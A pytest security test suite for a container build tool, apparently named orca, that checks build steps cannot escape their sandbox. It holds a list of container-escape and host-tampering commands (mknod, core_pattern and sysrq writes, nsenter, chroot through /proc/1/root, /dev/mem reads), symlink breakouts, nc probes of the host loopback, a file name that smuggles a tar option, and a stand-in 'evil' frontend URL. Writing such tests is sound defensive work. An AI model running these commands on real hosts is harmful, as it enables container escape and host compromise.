"""What a RUN may try: out of its root, at the host's network, at its own container."""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from security.conftest import Attack
from support.hostile import file, tar
from support.orca import load
from support.users import User, myself

Base = Callable[..., str]


def lines(text: str, word: str = "SEEN ") -> list[str]:
    """What a RUN printed after `word`, without the echo of the instruction itself."""
    return [line.split(word, 1)[1] for line in text.splitlines() if word in line and "RUN" not in line]


# --- what is around the process


def test_no_capability_is_inheritable(attack: Attack, busybox: str, who: User | None) -> None:
    """The class of CVE-2022-27651."""
    image = attack.busybox(who)
    said = attack.fine(
        f"FROM {image}\nRUN while read a; do echo SEEN $a; done </proc/self/status\n"
        "USER app\nRUN while read a; do echo USER $a; done </proc/self/status\n",
        user=who,
    ).stderr
    root, user = dict(map(str.split, _caps(lines(said)))), dict(map(str.split, _caps(lines(said, "USER "))))
    assert int(root["CapInh:"], 16) == int(root["CapAmb:"], 16) == 0
    assert int(root["CapEff:"], 16) == int(root["CapBnd:"], 16) == 0xA80425FB
    assert int(user["CapEff:"], 16) == int(user["CapPrm:"], 16) == int(user["CapInh:"], 16) == 0


def _caps(found: list[str]) -> list[str]:
    return [line for line in found if line.startswith("Cap")]


def test_descriptors_and_environment(attack: Attack, busybox: str, canary: Path) -> None:
    """CVE-2024-21626: descriptor 9 and a variable are open before orca, neither is seen in RUN."""
    context = attack.context(
        f'FROM {busybox}\nRUN for f in /proc/self/fd/*; do echo "SEEN ${{f##*/}} $(readlink $f)"; done; '
        'for f in /proc/1/fd/*; do echo "SEEN ${f##*/}"; done; env | while read e; do echo "ENV $e"; done\n'
    )
    command = [*attack.orca.command("build", "--progress=plain", context)]
    environment = {**attack.orca.environment(), "TOK": "sentinel-4711", "LD_SENTINEL": "sentinel-4711"}
    directory = os.open(canary, os.O_RDONLY)
    try:
        os.set_inheritable(directory, True)
        said = subprocess.run(
            command, env=environment, cwd=canary, pass_fds=(directory,), capture_output=True, text=True, timeout=30
        )
    finally:
        os.close(directory)
    assert said.returncode == 0, said.stderr
    assert "sentinel" not in said.stderr
    assert str(canary) not in said.stderr
    numbers = {int(line.split()[0]) for line in lines(said.stderr)}
    assert {0, 1, 2} <= numbers and max(numbers) <= 10, said.stderr  # 3 and 10: the shell's own


def test_working_directory_is_a_descriptor(attack: Attack, busybox: str) -> None:
    """CVE-2024-21626, by WORKDIR; through a base's config it is in test_base_images.py."""
    for number in (3, 7, 20):
        attack.refused(f"FROM {busybox}\nWORKDIR /proc/self/fd/{number}\nRUN ls ../../../..\n", "not allowed")


def test_working_directory_is_a_link_to_a_descriptor(attack: Attack, busybox: str) -> None:
    for number in (3, 7):
        dockerfile = f"FROM {busybox}\nRUN ln -s /proc/self/fd/{number} /w\nWORKDIR /w\nRUN ls ../../../..\n"
        attack.refused(dockerfile, "working directory|/w in the image|not a directory")
        dockerfile = f"FROM {busybox}\nRUN ln -s /proc/self/fd /w\nWORKDIR /w/{number}/..\nRUN ls ../../../..\n"
        attack(dockerfile)


def test_working_directory_below_a_link(attack: Attack, busybox: str, canary: Path) -> None:
    """CVE-2026-55686: the directory is made inside the root."""
    said = attack.fine(
        f"FROM {busybox}\nRUN ln -s {canary} /w\nWORKDIR /w/new\nRUN touch PWN && echo SEEN $(pwd) $(ls {canary})\n"
    ).stderr
    assert lines(said) == [f"{canary}/new new"]


def test_root_is_a_link(attack: Attack, busybox: str, canary: Path) -> None:
    """COPY and RUN through links that an earlier RUN has left."""
    attack.fine(
        f"FROM {busybox} AS a\nRUN ln -s / /rootdir && ln -s {canary} /out && ln -s ../../../../../../..{canary} /up\n"
        f"FROM {busybox}\nRUN ln -s {canary} /app && ln -s {canary}/file /f && ln -s ../../../../..{canary} /b\n"
        "COPY Dockerfile /app/\nCOPY Dockerfile /f\nCOPY Dockerfile /b/dir/inner\nCOPY <<E /app/PWN\nx\nE\n"
        "COPY --from=a /rootdir/etc/passwd /app/dir/\n"
    )
    for path in ("/out/file", "/up/file", f"/rootdir/{canary}/file"):
        attack.refused(
            f"FROM {busybox} AS a\nRUN ln -s / /rootdir && ln -s {canary} /out\n"
            f"RUN ln -s ../../../../../../..{canary} /up\nFROM {busybox}\nCOPY --from=a {path} /x\n",
            "no such file|leads nowhere",
        )


FORBIDDEN = """
mknod /b b 7 0 && cat /b
mknod /c c 1 1 && cat /c
echo x >/sys/fs/cgroup/cgroup.procs
mkdir /sys/fs/cgroup/x
mount -t tmpfs t /mnt
mount -o remount,rw /sys
umount /proc/kcore
umount -l /etc/hosts
echo h >/proc/sysrq-trigger
echo x >/proc/sys/kernel/core_pattern
echo 1 >/proc/sys/vm/drop_caches
head -c1 /proc/kcore | grep .
unshare -Ur true
unshare -m true
chroot /proc/1/root/../.. ls / | grep canary
pivot_root / /mnt
losetup /dev/loop0 /bin/sh
nsenter -t 1 -m true && test $$ = 0
dmesg -c | grep .
swapoff -a && false
insmod /x.ko
reboot -f && false
hostname evil && false
echo x >/dev/tty
read -t1 x </dev/tty
read -t1 x
cat /dev/mem
ls /dev/fuse
ls /dev/net
ls /run/orca
""".strip().splitlines()


def test_forbidden(attack: Attack, who: User | None) -> None:
    """Each fails, for root as for an ordinary user."""
    tries = "\n".join(f"({command}) >/dev/null 2>&1 && echo 'SEEN {command}'" for command in FORBIDDEN)
    said = attack.fine(f"FROM {attack.busybox(who)}\nRUN <<E\n{tries}\necho SEEN all\nE\n", user=who).stderr
    assert lines(said) == ["all"]


def test_forbidden_on_the_hosts_network(attack: Attack, busybox: str) -> None:
    """With --network=host /sys is the host's: nothing of it can be written."""
    said = attack.fine(
        f"FROM {busybox}\nRUN for d in $(find /sys -xdev -maxdepth 4 -type d) "
        "$(cut -d' ' -f5 /proc/self/mountinfo | grep /sys/); "
        'do touch "$d/PWN" 2>/dev/null && echo "SEEN $d"; mkdir "$d/PWN.d" 2>/dev/null && echo "SEEN $d"; done; '
        'while read -r _ _ _ _ place options _; do case "$place,$options," in /sys*,rw,*) echo "SEEN $place";; esac; '
        "done </proc/self/mountinfo; true\n",
        "--network=host",
    ).stderr
    assert lines(said) == []


def test_set_uid_file_of_a_run_does_not_reach_the_host(attack: Attack, busybox: str, ordinary_user: User) -> None:
    attack.fine(f"FROM {busybox}\nRUN cp /bin/busybox /s && chmod 6755 /s\n")
    found = [*(attack.orca.store / "snapshots").glob("*/fs/s")]
    assert found
    assert ordinary_user.run("ls", found[0], check=False).returncode != 0


# --- the network


@contextlib.contextmanager
def listener(family: socket.AddressFamily, address: str) -> Iterator[tuple[int, list[object]]]:
    """A server on the host; the list tells who came."""
    seen: list[object] = []
    with socket.socket(family, socket.SOCK_STREAM) as server:
        server.bind((address, 0))
        server.listen()
        server.settimeout(0.2)
        end = threading.Event()

        def accept() -> None:
            while not end.is_set():
                with contextlib.suppress(OSError):
                    connection, who = server.accept()
                    seen.append(who)
                    connection.close()

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            yield server.getsockname()[1], seen
        finally:
            end.set()
            thread.join()


@pytest.mark.parametrize("mode", ["default", "none"])
def test_host_loopback(attack: Attack, busybox: str, mode: str, who: User | None) -> None:
    """A server on the host's loopback is out of a RUN's reach, by all of its names."""
    image = attack.busybox(who)
    with contextlib.ExitStack() as stack:
        port, seen = stack.enter_context(listener(socket.AF_INET, "127.0.0.1"))
        places = [(a, port) for a in ("127.0.0.1", "10.0.2.2", "10.0.2.3", "localhost", "0.0.0.0", "127.1.2.3")]
        with contextlib.suppress(OSError):
            port6, seen6 = stack.enter_context(listener(socket.AF_INET6, "::1"))
            places += [(a, port6) for a in ("::1", "fd00::2", "fd00::3", "::ffff:127.0.0.1")]
            seen = [seen, seen6]  # type: ignore[list-item]
        tries = "; ".join(f"nc -w 1 {a} {p} </dev/null && echo SEEN {a}" for a, p in places)
        said = attack.fine(f"FROM {image}\nRUN {tries}; echo DONE\n", f"--network={mode}", user=who).stderr
    assert lines(said) == []
    assert seen in ([], [[], []])


def test_abstract_socket_of_the_host(attack: Attack, busybox: str) -> None:
    """Unix sockets without a path belong to the network namespace."""
    with socket.socket(socket.AF_UNIX) as server:
        name = f"orca-test-{os.getpid()}"
        server.bind("\0" + name)
        said = attack.fine(f"FROM {busybox}\nRUN cat /proc/net/unix | sed 's/^/SEEN /'\n").stderr
    assert name not in said


# --- what is left of it


def test_process_that_would_stay(attack: Attack, busybox: str) -> None:
    attack.fine(f"FROM {busybox}\nRUN (setsid sleep 300 </dev/null >/dev/null 2>&1 &); nohup sleep 300 & true\n")
    assert attack.seconds < 10


def test_umask(attack: Attack, busybox: str) -> None:
    """Layers do not depend on the caller's umask, nor do the store's modes."""
    context = attack.context(
        {
            "Dockerfile": f"FROM {busybox}\nCOPY a /made/by/copy/\nWORKDIR /made/by/workdir\nADD t.tar /made/by/add/\n"
            "RUN umask; touch /made/by/run; mkdir /made/by/rund\nCOPY <<E /made/by/here\nx\nE\n",
            "a": "x",
            "t.tar": tar(file("t/f")),
        }
    )
    found = set()
    for mask in ("000", "077"):
        store = attack.orca.top / f"store-{mask}"
        environment = {**attack.orca.environment(), "ORCA_ROOT": str(store), "SOURCE_DATE_EPOCH": "1700000000"}
        load(store, attack.layout, busybox, myself())
        command = " ".join(attack.orca.command("build", "--progress=plain", context))
        done = subprocess.run(
            ["sh", "-c", f"umask {mask} && exec {command}"], env=environment, capture_output=True, text=True, timeout=60
        )
        assert done.returncode == 0, done.stderr
        found.add(done.stdout)
        assert store.joinpath("builds").stat().st_mode & 0o077 == 0
        for path in store.rglob("*"):
            if "snapshots" not in path.parts and not path.is_symlink():
                assert path.stat().st_mode & 0o022 == 0, path
    assert len(found) == 1


def test_deep_tree(attack: Attack, busybox: str) -> None:
    """2,000 directories one in the other: refused or packed, and removed again."""
    loop = "i=0; while [ $i -lt 2000 ]; do mkdir dddd && cd dddd || exit 9; i=$((i+1)); done"
    result = attack(f"FROM {busybox}\nRUN cd / && {loop}\nRUN true\n")
    assert result.returncode == 0 or "too long" in result.stderr or "deep" in result.stderr, str(result)


def test_names_that_are_not_for_layers(attack: Attack, busybox: str) -> None:
    for name in (".wh.x", ".wh..wh..opq", ".wh.", ".wh..wh.plnk"):
        attack.refused(f"FROM {busybox}\nRUN mkdir -p /d && touch /d/{name}\nRUN true\n", "whiteout")
    said = attack.fine(
        f"FROM {busybox}\nRUN cd /tmp && mkfifo f && touch -- -Cx --to-command=id '@x' "
        "\"$(printf 'a\\nb')\" \"$(printf '\\033[2J')\"\n"
        "RUN ls /tmp | wc -l | sed 's/^/SEEN /'\n"
    ).stderr
    assert lines(said) == ["6"]


def test_mounts_are_not_there_yet(attack: Attack, busybox: str) -> None:
    """What a RUN could ask for beyond its container is refused, not ignored."""
    for flag in (
        "--security=insecure",
        "--device=/dev/kmsg",
        "--privileged",
        "--mount=type=bind,bind-propagation=rshared",
    ):
        attack.refused(f"FROM {busybox}\nRUN {flag} true\n", "RUN|not supported|unknown")


# --- the terminal


def test_syntax_line_fetches_nothing(attack: Attack, busybox: str, evil: object) -> None:
    """CVE-2024-23653: a frontend that the Dockerfile names is not run."""
    before = len(evil.requests)  # type: ignore[attr-defined]
    attack.fine(f"# syntax={evil.address}/frontend:1\nFROM {busybox}\nRUN true\n")  # type: ignore[attr-defined]
    assert len(evil.requests) == before  # type: ignore[attr-defined]
